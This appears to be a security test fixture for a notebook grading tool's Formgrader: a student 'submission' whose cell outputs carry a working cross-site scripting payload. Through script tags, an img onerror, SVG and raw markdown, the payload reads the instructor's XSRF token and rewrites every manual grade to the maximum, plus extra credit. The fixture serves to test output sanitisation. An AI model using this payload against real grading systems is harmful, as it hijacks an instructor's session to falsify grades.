"""Display HTML, JavaScript and SVG that, run in the Formgrader's page, give this submission full manual marks.

The Formgrader shows a submission's outputs inside the instructor's authenticated page; the feedback page is
opened by whoever grades. A script that ran there could call the Formgrader's API with the instructor's rights:
this one reads the submission's grades (``formgrader/api/grades``) and sets every manual score to the maximum
(``PUT formgrader/api/grade/<id>``), and marks the page (``window.convlearnPwned``, ``data-convlearn-pwned``)
so a test can see that it ran. Output of a student's cell must reach graders as inert text only.

expect: 0
"""
# %% conv_full
from IPython.display import HTML, SVG, Javascript, display

STEAL = """
window.convlearnPwned = (window.convlearnPwned || 0) + 1;
document.documentElement.setAttribute("data-convlearn-pwned", "1");
(async () => {
  const path = location.pathname;
  const base = path.split("/formgrader/")[0];
  const submission = (path.split("/submissions/")[1] || "").split("/")[0];
  const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "";
  const headers = {"X-XSRFToken": decodeURIComponent(xsrf), "Content-Type": "application/json"};
  const grades = await (await fetch(base + "/formgrader/api/grades?submission_id=" + submission)).json();
  for (const grade of grades) {
    await fetch(base + "/formgrader/api/grade/" + grade.id, {method: "PUT", headers,
      body: JSON.stringify({manual_score: grade.max_score, extra_credit: 10})});
  }
})();
"""
display(HTML("<b>look here</b><script>" + STEAL + "</script><img src='x' onerror='" + STEAL.replace("'", '"')
             .replace("\n", " ") + "'>"))
display(Javascript(STEAL))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='window.convlearnPwned=1'><script>" + STEAL
            + "</script></svg>"))
display({"text/markdown": "<script>" + STEAL + "</script>", "text/plain": "markdown"}, raw=True)


def convolve_full(x, k):
    raise NotImplementedError
